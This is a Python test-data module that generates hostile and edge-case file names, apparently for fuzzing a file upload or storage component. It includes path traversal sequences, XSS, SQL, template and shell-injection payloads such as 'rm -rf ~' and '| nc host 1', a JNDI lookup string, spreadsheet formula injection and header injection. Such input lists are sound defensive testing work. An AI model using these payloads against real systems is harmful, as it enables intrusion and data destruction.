"""File names that mean harm or have broken programs before, each shape with its variations."""

from itertools import product
from string import ascii_lowercase

_STEPS = (
    "../",
    "..\\",
    "....//",
    "..%2f",
    "%2e%2e/",
    "..%5c",
    "..%c0%af",
    "．．/",
    "..\u2215",
    "./",
)
_PATHS = ("etc/passwd", "windows\\win.ini", "x.jpg")
_ROOTS = (
    "/etc/passwd", "//host/share/x.jpg", "\\\\host\\share\\x.jpg", "C:\\x.jpg", "c:x.jpg",
    "file:///etc/passwd", "\\\\?\\C:\\x", "~/x.jpg", "~root/.ssh/id", "/dev/null", "/", "\\",
)  # fmt: skip
_DEVICES = (
    "con", "prn", "aux", "nul", "com1", "com9", "com¹", "lpt1", "lpt9", "clock$", "conin$", "CON",
)  # fmt: skip
_CONTROLS = tuple(chr(code) for code in (*range(0x20), *range(0x7F, 0xA0)))
_UNSEEN = (
    "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069",
    "\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u2060", "\ufeff", "\u00ad", "\u061c",
    "\u2028", "\u2029", "\u00a0", "\u3000", "\ud800", "\udfff", "\ufff9", "\U000e0041", "\ue000",
    "\uffff",
)  # fmt: skip
_SIGNS = tuple("\"'`<>|:*?;%&$#@!=+,^~[]{}()")
_SCRIPTS = (
    "<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "\"><svg/onload=alert(1)>",
    "javascript:alert(1)", "data:text/html,<b>", "{{7*7}}", "{% load x %}", "${7*7}", "#{7*7}",
    "<!--", "]]>", "&lt;b&gt;", "'; DROP TABLE complaints;--", "1' OR '1'='1", "`id`", "$(reboot)",
    "| nc host 1", "&& rm -rf ~", "; rm -rf .", "-rf", "--help", "=cmd|' /C calc'!A0", "@SUM(1+1)",
    "+1+1", "%s%s%s%n", "%d", "%00", "\\0", "\\x00", "\\u0000", "${jndi:ldap://host/a}",
)  # fmt: skip
_HEADERS = (
    "a\r\nSet-Cookie: x=y", "a\nX: y", "a\rX: y", 'a"; filename="b.exe',
    "a; filename*=UTF-8''b.exe",
    "a%0d%0aX: y", "a\\", 'a\\"b', "=?utf-8?b?YS5leGU=?=", "a\x0bX: y", "a\x85X: y", "a\u2028X: y",
)  # fmt: skip
_ENDINGS = (
    "exe", "php", "html", "svg", "js", "hta", "lnk", "bat", "jsp", "asp", "sh", "htaccess",
    "php.jpg",
    "jpg.exe", "jpg.php", "php%00.jpg", "php;.jpg", "php::$DATA", "jpg.", "jpg ", "exe\u200b",
    "JpG",
)  # fmt: skip
_LENGTHS = (81, 100, 101, 255, 256, 4096, 70_000)
_FILLINGS = ("长", "a", "😀", "e\u0301", ".", " ", "\u200b")
_ODD = (
    "", ".", "..", "...", " ", ". .", ".jpg", "..jpg", "jpg", "-", "_", "。", "．", "／", "＼",
    "？",
    "😀", "👨\u200d👩\u200d👧", "é", "e\u0301", "ﬁle", "ＣＯＮ", "ⅷ", "İ", "ß", "Ω",
    "ǆ", "ا", "ש", "ไ",
    "z\u0337\u0321\u0355" * 20, "\u0300" * 90, "🏴\U000e0067\U000e0062\U000e007f",
    ".htaccess", ".git",
    "Thumbs.db", "desktop.ini", "index.html", "web.config", "a b.jpg", " a.jpg", "a.jpg ",
    "程晚舟.jpg",
)  # fmt: skip

NAMES = tuple(
    dict.fromkeys(
        (
            *(step * times + path for step, path, times in product(_STEPS, _PATHS, (1, 12))),
            *_ROOTS,
            *(f"{device}{ending}" for device in _DEVICES for ending in ("", ".jpg", ".a.jpg")),
            *(f"a{control}b.jpg" for control in _CONTROLS),
            *(f"小票{sign}gpj.exe" for sign in _UNSEEN),
            *(f"小{sign}票.jpg" for sign in _SIGNS),
            *(f"{script}.jpg" for script in _SCRIPTS),
            *(f"{header}.jpg" for header in _HEADERS),
            *(f"照片.{ending}" for ending in _ENDINGS),
            *(filling * length + ".jpg" for filling, length in product(_FILLINGS, _LENGTHS)),
            *_ODD,
            ascii_lowercase * 3,
        )
    )
)
